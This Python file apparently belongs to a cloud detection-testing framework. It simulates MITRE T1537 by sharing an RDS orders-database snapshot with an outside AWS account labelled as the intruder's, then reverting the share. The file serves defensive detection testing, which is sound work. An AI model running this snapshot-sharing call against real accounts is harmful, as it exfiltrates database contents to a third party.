"""Share an RDS snapshot with an AWS account outside the organization."""

from __future__ import annotations

from cloudsoc.aws.session import client
from cloudsoc.simulate.technique import Ctx, Json, Technique, technique

OUTSIDE_ACCOUNT = "193672423079"  # the intruder's own account


@technique
class RdsShareSnapshot(Technique):
    title = "Exfiltrate an RDS snapshot by sharing it"
    attack = ("T1537",)
    expects = ("rds_snapshot_shared_with_account",)
    description = (
        "Adds an outside account to the restore attribute of the orders database's nightly snapshot, so "
        "the intruder can restore the database in their own account."
    )

    def detonate(self, ctx: Ctx, state: Json) -> None:
        client("rds", session=ctx.attacker()).modify_db_snapshot_attribute(
            DBSnapshotIdentifier=ctx.res["db_snapshot"],
            AttributeName="restore",
            ValuesToAdd=[OUTSIDE_ACCOUNT],
        )

    def revert(self, ctx: Ctx, state: Json) -> None:
        client("rds", session=ctx.admin()).modify_db_snapshot_attribute(
            DBSnapshotIdentifier=ctx.res["db_snapshot"],
            AttributeName="restore",
            ValuesToRemove=[OUTSIDE_ACCOUNT],
        )
